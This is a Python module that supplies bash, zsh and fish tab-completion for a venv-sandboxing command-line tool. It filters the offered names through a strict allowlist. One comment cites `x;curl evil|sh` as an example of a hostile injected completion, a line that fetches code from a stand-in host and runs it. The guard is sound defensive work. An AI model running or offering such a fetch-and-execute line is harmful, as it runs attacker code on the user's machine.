"""Command line (host): what a shell offers at the TAB key, for bash, zsh and fish.

click asks these functions and writes the scripts; ``venvjail completion SHELL`` prints them.
"""

from __future__ import annotations

import os
import re
import shlex
from collections.abc import Iterable, Iterator

import click
from click.shell_completion import CompletionItem, get_completion_class

from venvjail.layout import VenvPaths
from venvjail.nearby import venvs_in

SHELLS = ("bash", "zsh", "fish")
_VARIABLE = "_VENVJAIL_COMPLETE"
# A jail chooses the names of commands and of directories in its project, and bash puts what click
# offers into the command line as it is: `x;curl evil|sh` would be run by the user's next Enter.
_HARMLESS = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_.+-]*")


def script(command: click.Command, shell: str) -> str:
    """The script that makes ``shell`` ask for completions; for ``eval`` or ``source``."""
    kind = get_completion_class(shell)
    assert kind is not None, f"click knows no {shell}"
    return kind(command, {}, "venvjail", _VARIABLE).source()


def words_before() -> list[str] | None:
    """The words between ``venvjail`` and the one to be completed; None when no shell asks."""
    if not os.environ.get(_VARIABLE, "").endswith("_complete"):
        return None
    try:
        words = shlex.split(os.environ.get("COMP_WORDS", ""))
    except ValueError:  # an open quote
        return []
    count = os.environ.get("COMP_CWORD", "")
    return words[1 : int(count)] if count.isdecimal() else words[1:]


def venvs(_context: click.Context, _parameter: click.Parameter, typed: str) -> list[CompletionItem]:
    """The venvs in the directory that ``typed`` names so far; where there is none, directories."""
    directory, name = os.path.split(typed)
    there = [found for found in venvs_in(directory or os.curdir) if found.startswith(name)]
    return _items(os.path.join(directory, found) for found in there) or [
        CompletionItem(typed, type="dir")
    ]


def commands(
    context: click.Context, _parameter: click.Parameter, typed: str
) -> list[CompletionItem]:
    """The commands of the venv, as ``venv/bin`` has them; files for what follows."""
    venv = context.params.get("venv")
    if context.params.get("command") or "/" in typed or not isinstance(venv, str):
        return paths(context, _parameter, typed)
    return _items(name for name in _names(VenvPaths(venv).bin) if name.startswith(typed))


def paths(_context: click.Context, _parameter: click.Parameter, typed: str) -> list[CompletionItem]:
    """Files and directories, which the shell knows and quotes itself."""
    return [CompletionItem(typed, type="file")]


def _names(directory: str) -> Iterator[str]:
    try:
        yield from sorted(os.listdir(directory))
    except OSError:
        return


def _items(names: Iterable[str]) -> list[CompletionItem]:
    return [CompletionItem(n) for n in names if all(map(_HARMLESS.fullmatch, _parts(n)))]


def _parts(path: str) -> list[str]:
    return [part.lstrip(".") or "_" for part in path.split("/") if part]
